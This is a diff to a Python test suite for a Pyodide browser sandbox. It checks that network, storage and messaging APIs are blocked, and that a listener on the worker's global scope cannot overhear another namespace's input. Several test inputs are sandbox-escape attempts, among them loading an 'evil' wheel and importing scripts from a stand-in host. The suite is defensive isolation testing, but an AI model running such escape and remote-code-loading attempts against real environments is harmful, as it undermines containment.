@@ -222,17 +222,20 @@ def test_reset_clears_one_namespace(harness):
     ("import js\njs.WebSocket.new('wss://example.com/')", "WebSocket is not available"),
     ("import js\njs.indexedDB.open('sync-queue')", "indexedDB is not available"),
     ("import js\njs.caches", "caches is not available"),
-    ("import js\njs.chrome", "chrome is not available"),
-    ("import js\njs.navigator.storage", "storage is not available"),
-    ("import js\njs.navigator.locks", "locks is not available"),
+    ("import js\njs.chrome", "AttributeError: chrome"),
+    ("import js\njs.navigator.storage", "AttributeError: storage"),
+    ("import js\njs.navigator.locks", "AttributeError: locks"),
+    ("import js\njs.FontFace.new('x', 'url(https://example.com/f.woff)')", "FontFace is not available"),
+    ("import js\njs.fonts", "AttributeError: fonts"),
+    ("import js\nproto = js.Object.getPrototypeOf(js)\n"
+     "while proto:\n    assert 'fetch' not in js.Object.getOwnPropertyNames(proto)\n    proto = js.Object.getPrototypeOf(proto)\n"
+     "raise RuntimeError('no fetch on the prototype chain')", "no fetch on the prototype chain"),
+    ("import js\nawait js.WebAssembly.compileStreaming(js.fetch('https://example.com/m.wasm'))", "Network access is off"),
     ("import js\njs.BroadcastChannel.new('x')", "BroadcastChannel is not available"),
     ("import js\njs.Worker.new('/offscreen/py-worker.js')", "Worker is not available"),
     ("import js\njs.importScripts('https://example.com/x.js')", "importScripts is not available"),
     ("import js\njs.postMessage({'id': 1})", "postMessage is not available"),
-    ("import js\njs.addEventListener('message', lambda e: None)", "Listening to the worker's messages is not available"),
-    ("import js\nfrom pyodide.ffi import create_proxy\n"
-     "js.EventTarget.prototype.addEventListener.call(js, 'message', create_proxy(print))",
-     "Listening to the worker's messages is not available"),
+    ("import js\njs.close()", "close is not available"),
     ("import pyodide_js\nawait pyodide_js.loadPackage('https://example.com/evil-1.0-py3-none-any.whl')", ""),
     ("import micropip\nawait micropip.install('requests')", ""),
 ])
@@ -240,6 +243,16 @@ def test_network_and_extension_state_are_blocked(harness, code, needle):
     r = harness.run(code, namespace="t-net")
     assert r["status"] == "error" or (needle == "" and "evil" not in r["ret"]), r
     assert needle in r["error"] + r["stderr"]
+
+
+def test_listening_on_the_worker_scope_hears_nothing_of_the_host(harness):
+    # The host's commands (code, input) travel over a private port, never the worker's global.
+    listen = ("import js\nfrom pyodide.ffi import create_proxy\nheard = []\n"
+              "js.addEventListener('message', create_proxy(lambda e: heard.append(e.data)))")
+    assert harness.run(listen, namespace="t-listen")["status"] == "success"
+    harness.run("secret = input()", namespace="t-listen-other", inputs=["hunter2"])
+    r = harness.run("heard", namespace="t-listen")
+    assert r["status"] == "success" and r["ret"] == "[]", r
 
 
 def test_blocked_network_does_not_break_bundled_package_loading(harness):
